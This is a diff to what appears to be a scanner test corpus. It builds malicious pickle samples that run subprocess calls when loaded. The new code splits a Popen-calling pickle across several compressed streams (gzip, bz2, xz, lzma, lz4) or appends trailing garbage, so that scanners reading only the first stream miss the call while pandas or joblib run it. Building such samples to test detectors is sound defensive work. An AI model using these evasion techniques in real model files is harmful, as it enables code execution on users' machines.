@@ -6,9 +6,12 @@ pickles, garbage after the payload, truncation, frames that split the call.
 
 from __future__ import annotations
 
+import bz2
+import lzma
 import marshal
 import pickle
 import struct
+from collections.abc import Callable
 
 from ._payload import EXEC, OS_SYSTEM, os_system, program
 from ._pickle_asm import Asm, Call, Global, NewObj
@@ -207,3 +210,81 @@ def _frames(c: Canary) -> bytes:
     a = Asm(4).str_("subprocess").memoize().frame_break().str_("getoutput").memoize().stack_global()
     a.frame_break().str_(c.sh).tuple_n(1).frame_break().reduce()
     return a.program(frames=True)
+
+
+# -- multi-stream compressed files -----------------------------------------------------------------
+# The pickle is cut in two and each half compressed as a stream of its own: the codec's file readers
+# (gzip.GzipFile, bz2/lzma/lz4 file objects, joblib's) join the streams, so the call in the second
+# half runs; a scanner that decodes only the first stream sees a harmless, truncated pickle.
+
+
+def _halves(c: Canary) -> tuple[bytes, bytes]:
+    stream = program(2, Call(Global("subprocess", "Popen"), (c.argv,)))
+    cut = len(stream) // 2
+    return stream[:cut], stream[cut:]
+
+
+@sample(
+    "gzip_members_padded_split",
+    technique="stream:multi-member-gzip",
+    container="pickle.gz",
+    filename="model.pkl.gz",
+    loader="pandas",
+    requires=("pandas",),
+    description="A pickle cut across two gzip members with zero padding between them; gzip.GzipFile "
+    "(pandas.read_pickle) skips the padding and joins the members, so the call in the second runs.",
+)
+def _gzip_split(c: Canary) -> bytes:
+    import gzip
+
+    first, second = _halves(c)
+    return gzip.compress(first, mtime=0) + b"\x00" * 8 + gzip.compress(second, mtime=0)
+
+
+@sample(
+    "gzip_payload_then_garbage",
+    technique="stream:trailing-garbage",
+    container="pickle.gz",
+    filename="scores.pkl.gz",
+    loader="pandas",
+    requires=("pandas",),
+    description="A gzip member holding the payload pickle, followed by bytes that are no gzip member: the "
+    "reader fails only after the pickle was read and its call ran.",
+)
+def _gzip_garbage(c: Canary) -> bytes:
+    import gzip
+
+    return gzip.compress(os_system(c, 2), mtime=0) + b"\x13\x37 not a gzip member"
+
+
+def _joblib_split(name: str, filename: str, codec: str, compress: Callable[[bytes], bytes]) -> None:
+    @sample(
+        name,
+        technique=f"stream:multi-stream-{codec}",
+        container=f"joblib-{codec}",
+        filename=filename,
+        loader="joblib",
+        requires=("joblib",),
+        description=f"A pickle cut across two {codec} streams; joblib.load (and the {codec} file reader) "
+        "decodes one stream after the other, so the call in the second stream runs.",
+    )
+    def _build(c: Canary) -> bytes:
+        first, second = _halves(c)
+        return compress(first) + compress(second)
+
+
+def _lz4(data: bytes) -> bytes:
+    import lz4.frame
+
+    return bytes(lz4.frame.compress(data))
+
+
+_joblib_split("bz2_streams_split", "model.joblib.bz2", "bz2", bz2.compress)
+_joblib_split("xz_streams_split", "model.joblib.xz", "xz", lzma.compress)
+_joblib_split(
+    "lzma_alone_streams_split",
+    "model.joblib.lzma",
+    "lzma",
+    lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
+)
+_joblib_split("lz4_frames_split", "model.joblib.lz4", "lz4", _lz4)
